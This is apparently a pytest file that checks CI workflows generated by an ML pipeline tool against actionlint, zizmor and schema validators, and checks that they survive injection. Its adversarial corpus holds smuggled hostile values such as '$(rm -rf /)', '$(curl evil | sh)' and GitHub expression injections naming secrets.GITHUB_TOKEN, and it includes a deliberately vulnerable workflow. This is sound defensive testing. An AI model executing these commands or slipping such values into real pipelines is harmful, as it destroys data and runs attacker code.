"""The generated CI files pass the real linters, for every shipped stack and an adversarial corpus.

actionlint (syntax, expressions, shellcheck when it is installed), zizmor offline with zero findings
(ignore comments not honoured), and check-jsonschema against the GitHub workflow and GitLab CI
schemas. Each linter is also shown a broken file first, so a linter that silently checks nothing
fails the test instead of passing it.
"""

from __future__ import annotations

import dataclasses
import json
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from mlcode.compile import github, gitlab
from mlcode.compile import render as crender
from mlcode.compile.header import with_header
from mlcode.resources import stack_presets
from mlcode.spec.load import load_file, parse_spec, parse_stack
from mlcode.spec.stack import Stack
from mlcode.spec.yamlsource import parse

pytestmark = pytest.mark.slow

BIN = Path(sys.executable).parent
LONG_MODEL = "m" + "-" * 61 + "z"
LONG_NAME = "p" + "_-" * 30 + "9"
RUNNER = "self-hosted.gpu_1-x"

BASE = """\
version: 1
project: churn
stack: STACK
data:
  customers:
    path: data/customers.csv
    target: churned
    features: {numeric: [age], categorical: [plan]}
models:
  churn:
    task: classification
    data: customers
    estimator: sklearn.ensemble.RandomForestClassifier
ci:
  schedule: "0 3 * * 1"
"""

ADVERSARIAL = f"""\
version: 1
project: {LONG_NAME}
stack: STACK
data:
  a-b:
    path: "data/${{{{ github.event.issue.title }}}}/$(rm -rf ~)/`id`/年齢.csv"
    target: "it's \\"quoted\\""
    features:
      numeric: ["${{{{ github.event.pull_request.title }}}}", "$(touch /tmp/pwned)", "a: b # c"]
      categorical: ["`reboot`", "年齢", "{"x" * 500}"]
  a_b:
    path: data/a_b.parquet
    features: {{numeric: ["${{{{ github.event.pull_request.title }}}}"]}}
models:
  {LONG_MODEL}:
    task: classification
    data: a-b
    estimator: sklearn.ensemble.RandomForestClassifier
    params: {{note: "${{{{ secrets.GITHUB_TOKEN }}}}", cmd: "$(curl evil | sh)"}}
    gates:
      drift: {{reference: a-b, current: a_b}}
    promotion:
      base: release/v1.2_x
      branch_prefix: ml.promote/x_
      reviewers: ["it's", "\\"dq\\"", "${{{{ github.event.issue.title }}}}", "$(rm -rf /)", "`id`"]
      labels: ["${{{{ github.event.comment.body }}}}", "ünïcødé 🚀", "{"l" * 100}"]
  "0":
    task: regression
    data: a_b
    train:
      cmd: "python train.py --title '${{{{ github.event.issue.title }}}}' $(id) `id`"
    promotion: {{mode: commit}}
  m2:
    task: classification
    data: a-b
    estimator: sklearn.linear_model.LogisticRegression
stages:
  report_x:
    cmd: echo "${{{{ github.event.issue.title }}}}" $(rm -rf /) `id`
    deps: [data/a_b.parquet]
ci:
  schedule: "*/15 0-23/2 1,15 jan-dec mon-fri"
  python: "3.13"
  runner: {RUNNER}
  retrain_on_data_change: true
"""

QUIET = """\
version: 1
project: quiet
stack: STACK
ci:
  retrain_on_data_change: false
  pull_request_checks: false
"""

# `ci.install`: mlcode from a git commit or from a wheel committed in the repository.
FROM_GIT = (
    BASE + '  install: "mlcode-git[ssh] @ git+https://github.com/org/mlcode.git@' + "a" * 40 + '"\n'
)
FROM_WHEEL = QUIET + "  install: ./dist/mlcode_git_core-0.1.0-py3-none-any.whl\n"


def _monorepo(models: int, groups: int = 0) -> str:
    """A monorepo of `models` models (every seventh promoted by a direct commit, every fifth
    retrained on drift, each with a drift gate), optionally in `groups` groups of `ci.groups`."""
    lines = ["version: 1", "project: mono", "stack: STACK", "data:"]
    lines += [
        "  train: {path: data/train.csv, target: y, features: {numeric: [a, b], categorical: [c]}}",
        "  latest: {path: data/latest.csv, features: {numeric: [a, b], categorical: [c]}}",
        "models:",
    ]
    for i in range(models):
        lines += [
            f"  model-{i}:",
            f"    task: {'regression' if i % 2 else 'classification'}",
            "    data: train",
            "    estimator: sklearn.linear_model." + ("Ridge" if i % 2 else "LogisticRegression"),
            "    gates: {drift: {reference: train, current: latest}}",
        ]
        if i % 7 == 3:
            lines.append("    promotion: {mode: commit}")
        if i % 5 == 1:
            lines.append("    retrain: {when: drift, max_drifted_share: 0.3}")
    lines += ["ci:", '  schedule: "0 2 * * *"']
    if groups:
        lines.append("  groups:")
        for g in range(groups):
            members = ", ".join(f"model-{i}" for i in range(models) if i % groups == g)
            lines.append(f"    shard-{g}: [{members}]")
    return "\n".join(lines) + "\n"


FIFTY = _monorepo(50)
FIFTY_GROUPS = _monorepo(50, groups=4)

CORPUS = {
    "base": BASE,
    "adversarial": ADVERSARIAL,
    "quiet": QUIET,
    "git": FROM_GIT,
    "wheel": FROM_WHEEL,
    "fifty": FIFTY,
    "fifty-groups": FIFTY_GROUPS,
}


def _stack(name: str) -> Stack:
    return parse_stack(load_file(str(stack_presets()[name]), f"stacks/{name}.yaml"))


def _custom_stacks() -> dict[str, Stack]:
    base = yaml.safe_load(stack_presets()["github-s3"].read_text())
    pat = dict(base, name="github-pat", forge={"type": "github", "token_env": "ML_BOT_TOKEN"})
    noforge = dict(
        base,
        name="github-gs",
        forge={"type": "none"},
        remote={
            "name": "gcs",
            "type": "gs",
            "url": "gs://bucket/{project}",
            "credentials": {"credentialpath": "GCS_KEY_JSON", "projectname": "GCS_PROJECT"},
        },
    )
    lab = yaml.safe_load(stack_presets()["gitlab-s3"].read_text())
    lab_ssh = dict(
        lab,
        name="gitlab-ssh",
        runner={"label": "x", "image": "registry.example.com/team/py@sha256:" + "a" * 64},
        remote={
            "name": "box",
            "type": "ssh",
            "url": "ssh://u@h/p",
            "credentials": {"keyfile": "SSH_KEY", "password": "SSH_PASSWORD"},
        },
    )
    return {s["name"]: Stack.model_validate(s) for s in (pat, noforge, lab_ssh)}


def all_stacks() -> dict[str, Stack]:
    stacks = {name: _stack(name) for name in ("github-s3", "github-ssh", "gitlab-s3")}
    stacks.update(_custom_stacks())
    return stacks


def _render(case: str, stack: Stack) -> dict[str, str]:
    text = CORPUS[case].replace("STACK", stack.name)
    spec = parse_spec(parse(text, "ml.yaml"))
    module = github if stack.ci == "github" else gitlab
    return module.render(spec, stack)


def _write(root: Path, files: dict[str, str]) -> list[Path]:
    paths = []
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        paths.append(path)
    return paths


def _tool(name: str) -> str:
    path = BIN / name
    if not path.exists():
        pytest.fail(f"{name} is not installed next to {sys.executable} (pip install the dev extra)")
    return str(path)


def _actionlint(files: list[Path], runner: str | None = None) -> subprocess.CompletedProcess[str]:
    args = [_tool("actionlint"), "-no-color"]
    if runner is not None:
        # A self-hosted runner label is declared to actionlint the way a team would declare it.
        config = files[0].parents[2] / "actionlint-config.yaml"
        config.write_text(f"self-hosted-runner:\n  labels: [{runner}]\n")
        args += ["-config-file", str(config)]
    if shutil.which("shellcheck") is None:
        args.append("-shellcheck=")
    return subprocess.run([*args, *map(str, files)], capture_output=True, text=True, check=False)


def _zizmor(dirs: list[Path]) -> tuple[int, list[Any], str]:
    out = subprocess.run(
        [_tool("zizmor"), "--offline", "--no-ignores", "--format", "json", *map(str, dirs)],
        capture_output=True,
        text=True,
        check=False,
    )
    return out.returncode, json.loads(out.stdout or "[]"), out.stderr


def _schema(schema: str, files: list[Path]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [_tool("check-jsonschema"), "--builtin-schema", schema, *map(str, files)],
        capture_output=True,
        text=True,
        check=False,
    )


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("ci")
    github_files: list[Path] = []
    gitlab_files: list[Path] = []
    github_dirs: list[Path] = []
    texts: dict[str, dict[str, str]] = {}
    for stack_name, stack in all_stacks().items():
        for case in CORPUS:
            files = _render(case, stack)
            folder = root / f"{stack_name}-{case}"
            written = _write(folder, files)
            texts[f"{stack_name}-{case}"] = files
            if stack.ci == "github":
                github_files += written
                github_dirs.append(folder)
            else:
                gitlab_files += written
    return {"github": github_files, "gitlab": gitlab_files, "dirs": github_dirs, "texts": texts}


def test_linters_catch_a_broken_workflow(tmp_path: Path) -> None:
    bad = tmp_path / ".github" / "workflows" / "bad.yml"
    bad.parent.mkdir(parents=True)
    bad.write_text(
        "on: issues\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: actions/checkout@v4\n"
        "      - run: echo ${{ github.event.issue.title }}\n"
    )
    assert _actionlint([bad]).returncode != 0
    code, findings, _ = _zizmor([tmp_path])
    assert code != 0
    assert {f["ident"] for f in findings} >= {"template-injection", "unpinned-uses", "artipacked"}
    bad_lab = tmp_path / ".gitlab-ci.yml"
    bad_lab.write_text("job:\n  script: 3\n  stage: [x]\n")
    assert _schema("vendor.gitlab-ci", [bad_lab]).returncode != 0
    assert _schema("vendor.github-workflows", [tmp_path / "none.yml"]).returncode != 0


def test_actionlint_passes(rendered: dict[str, Any]) -> None:
    out = _actionlint(rendered["github"], runner=RUNNER)
    assert out.returncode == 0, out.stdout + out.stderr


def test_zizmor_has_zero_findings(rendered: dict[str, Any]) -> None:
    code, findings, stderr = _zizmor(rendered["dirs"])
    assert findings == [], json.dumps(findings, indent=1)[:5000]
    assert code == 0, stderr
    assert "completed" in stderr  # it did audit the files


def test_zizmor_pedantic_has_zero_findings(rendered: dict[str, Any]) -> None:
    out = subprocess.run(
        [
            _tool("zizmor"),
            "--offline",
            "--pedantic",
            "--format",
            "json",
            *map(str, rendered["dirs"]),
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert json.loads(out.stdout) == [], out.stdout[:5000]


def test_github_schema(rendered: dict[str, Any]) -> None:
    out = _schema("vendor.github-workflows", rendered["github"])
    assert out.returncode == 0, out.stdout + out.stderr


def test_gitlab_schema(rendered: dict[str, Any]) -> None:
    out = _schema("vendor.gitlab-ci", rendered["gitlab"])
    assert out.returncode == 0, out.stdout + out.stderr


def test_adversarial_values_do_not_reach_ci(rendered: dict[str, Any]) -> None:
    for key, files in rendered["texts"].items():
        for text in files.values():
            assert "github.event.issue" not in text, key
            assert "github.event.comment" not in text, key
            assert "rm -rf" not in text, key
            assert "`id`" not in text, key
            assert "secrets.GITHUB_TOKEN" not in text, key


def test_adversarial_names_keep_the_structure(rendered: dict[str, Any]) -> None:
    files = rendered["texts"]["github-s3-adversarial"]
    retrain = yaml.safe_load(files[github.RETRAIN_WORKFLOW])
    include = retrain["jobs"]["retrain"]["strategy"]["matrix"]["include"]
    assert [e["model"] for e in include] == [LONG_MODEL, "0", "m2"]
    assert include[1]["dispatch"] is False
    assert retrain[True]["push"]["branches"] == ["main", "release/v1.2_x"]
    assert include[0]["branch"] == f"ml.promote/x_{LONG_MODEL}"
    assert retrain["jobs"]["retrain"]["runs-on"] == RUNNER
    lab = yaml.safe_load(rendered["texts"]["gitlab-s3-adversarial"][gitlab.GITLAB_CI])
    assert lab["mlcode-retrain"]["parallel"]["matrix"] == [{"MODELS": [LONG_MODEL, "0", "m2"]}]
    assert lab["default"]["image"] == "python:3.11-slim"  # the stack's own image wins


def test_expression_in_a_value_is_neutralized(tmp_path: Path) -> None:
    """Even if a value carrying `${{ }}` reached a template, GitHub would read it as text."""
    stack = _stack("github-s3")
    spec = parse_spec(parse(BASE.replace("STACK", "github-s3"), "ml.yaml"))
    ctx = github.context(spec, stack)
    evil = "${{ github.event.issue.title }}"
    ctx["p"] = dataclasses.replace(ctx["p"], runner=evil, requirement=f"mlcode {evil} $(id)")
    files = {}
    for path, template in (
        (github.PR_WORKFLOW, "github/mlcode-pr.yml.j2"),
        (github.RETRAIN_WORKFLOW, "github/mlcode-retrain.yml.j2"),
        (github.FINALIZE_WORKFLOW, "github/mlcode-finalize.yml.j2"),
    ):
        body = crender.render(template, {**ctx, "caching": True}, "github")
        github.check_workflow(body, path)
        files[path] = with_header(body)
    written = _write(tmp_path, files)
    data = yaml.safe_load(files[github.RETRAIN_WORKFLOW])
    assert data["jobs"]["retrain"]["runs-on"] == "${{ '${{' }} github.event.issue.title }}"
    finalize = yaml.safe_load(files[github.FINALIZE_WORKFLOW])
    assert finalize["jobs"]["finalize"]["runs-on"] == "${{ '${{' }} github.event.issue.title }}"
    assert _actionlint(written).returncode == 0
    code, findings, _ = _zizmor([tmp_path])
    assert (code, findings) == (0, [])


def test_fifty_models_compile_to_a_matrix_per_model_or_per_group(rendered: dict[str, Any]) -> None:
    """The 50-model monorepo (linted above with every other case): one job per model, or one per
    group of `ci.groups`, on GitHub and GitLab."""
    names = [f"model-{i}" for i in range(50)]
    for stack_name, stack in all_stacks().items():
        files = rendered["texts"][f"{stack_name}-fifty"]
        grouped = rendered["texts"][f"{stack_name}-fifty-groups"]
        shards = [" ".join(n for i, n in enumerate(names) if i % 4 == g) for g in range(4)]
        if stack.ci == "github":
            job = yaml.safe_load(files[github.RETRAIN_WORKFLOW])["jobs"]["retrain"]
            include = job["strategy"]["matrix"]["include"]
            assert [e["model"] for e in include] == names, stack_name
            job = yaml.safe_load(grouped[github.RETRAIN_WORKFLOW])["jobs"]["retrain"]
            include = job["strategy"]["matrix"]["include"]
            assert [e["group"] for e in include] == [f"shard-{g}" for g in range(4)]
            assert [e["models"] for e in include] == shards
        else:
            lab = yaml.safe_load(files[gitlab.GITLAB_CI])["mlcode-retrain"]
            assert lab["parallel"]["matrix"] == [{"MODELS": names}], stack_name
            lab = yaml.safe_load(grouped[gitlab.GITLAB_CI])["mlcode-retrain"]
            assert lab["parallel"]["matrix"] == [
                {"GROUP": f"shard-{g}", "MODELS": shards[g]} for g in range(4)
            ]
